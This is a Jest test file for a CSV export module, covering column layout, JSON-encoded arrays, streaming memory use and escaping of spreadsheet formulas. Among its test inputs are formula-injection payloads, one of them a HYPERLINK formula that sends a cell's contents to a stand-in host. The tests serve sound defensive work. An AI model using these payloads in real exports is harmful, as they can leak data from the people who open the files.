import { Readable } from 'node:stream';
import { text as textOf } from 'node:stream/consumers';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { toCsv } from '../../../src/documents/export/csv-export.js';
import type { ResultExport } from '../../../src/documents/export/export.types.js';
import { exportOf, inTurn, resultOf } from '../../support/builders/documents/results.js';

const HEAD = ['document_id', 'filename', 'document_status', 'pages', 'complete'];

describe('results as CSV', () => {
  it('have no cell that a program could take for a formula, also behind a line feed', async () => {
    const rows = await read(exportOf({ number: { type: 'string' } }, [resultOf({ number: '\n=1+1' })]));

    expect(rows[1]?.at(-1)).toBe("'\n=1+1");
  });

  it('have a row for each document, and arrays as JSON', async () => {
    const properties = {
      number: { type: 'string' },
      total: { type: 'number' },
      isPaid: { type: 'boolean' },
      issued: { type: 'string', format: 'date' },
      supplier: {
        type: 'object',
        properties: { name: { type: 'string' }, tags: { type: 'array', items: { type: 'string' } } },
      },
      lines: { type: 'array', items: { type: 'object', properties: { amount: { type: 'number' } } } },
    };
    const first = resultOf({
      number: '007, "seven"\n',
      total: 12.5,
      isPaid: false,
      issued: '2026-03-01',
      'supplier.name': 'ACME',
      'supplier.tags[0]': 'a;b',
      'lines[0].amount': 5,
      'lines[1].amount': 7.5,
    });
    const second = resultOf({ total: null }, { id: 'doc_2', status: 'failed', pages: null });

    const rows = await read(exportOf(properties, [first, second], { isComplete: false }));

    expect(rows).toEqual([
      [...HEAD, 'number', 'total', 'isPaid', 'issued', 'supplier.name', 'supplier.tags', 'lines'],
      [
        'doc_1',
        'invoice.pdf',
        'extracted',
        '1',
        'false',
        '007, "seven"\n',
        '12.5',
        'false',
        '2026-03-01',
        'ACME',
        '["a;b"]',
        '[{"amount":5},{"amount":7.5}]',
      ],
      ['doc_2', 'invoice.pdf', 'failed', '', 'false', '', '', '', '', '', '', ''],
    ]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+49 228 1', "'+49 228 1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['＝1+1', "'＝1+1"],
    ['=HYPERLINK("https://example.com?"&A1,"x")', '\'=HYPERLINK("https://example.com?"&A1,"x")'],
    ['1=1', '1=1'],
  ])('have no formulas: %j', async (text, cell) => {
    const properties = {
      [text.replaceAll('.', '').replaceAll(/[\t\r]/g, '')]: { type: 'string' },
      text: { type: 'string' },
    };
    const document = resultOf({ text }, { filename: text });

    const [head = [], row = []] = await read(exportOf(properties, [document]));

    expect([row[1], row[6]]).toEqual([cell, cell]);
    expect(head.filter((name) => /^[=+\-@]/.test(name))).toEqual([]);
  });

  it('keep negative numbers as numbers', async () => {
    const [, row = []] = await read(exportOf({ total: { type: 'number' } }, [resultOf({ total: -12.5 })]));

    expect(row[5]).toBe('-12.5');
  });

  it('have no two columns of one name', async () => {
    const properties = {
      filename: { type: 'string' },
      pages: { type: 'number' },
      fields: { type: 'object', properties: { filename: { type: 'string' } } },
      constructor: { type: 'string' },
    };
    const values = { filename: 'b', pages: 2, 'fields.filename': 'c', constructor: 'd' };

    const [head, row] = await read(exportOf(properties, [resultOf(values)]));

    expect(head).toEqual([...HEAD, 'fields.filename', 'fields.pages', 'fields.fields.filename', 'constructor']);
    expect(row?.slice(5)).toEqual(['b', '2', 'c', 'd']);
  });

  it('have a head alone where there are no documents', async () => {
    expect(await read(exportOf({ total: { type: 'number' } }, []))).toEqual([[...HEAD, 'total']]);
  });

  it('hold no more in memory than is read', async () => {
    let given = 0;
    const documents = inTurn(
      (function* () {
        for (; given < 1_000_000; given += 1) yield resultOf({ total: given });
      })(),
    );
    const pieces = toCsv(exportOf({ total: { type: 'number' } }, [], { documents }));

    const { value } = await pieces.next();
    await pieces.return();

    expect(value?.length).toBeLessThan(128 * 1024);
    expect(given).toBeLessThan(5_000);
  });
});

async function read(results: ResultExport): Promise<string[][]> {
  return parse(await textOf(Readable.from(toCsv(results))));
}
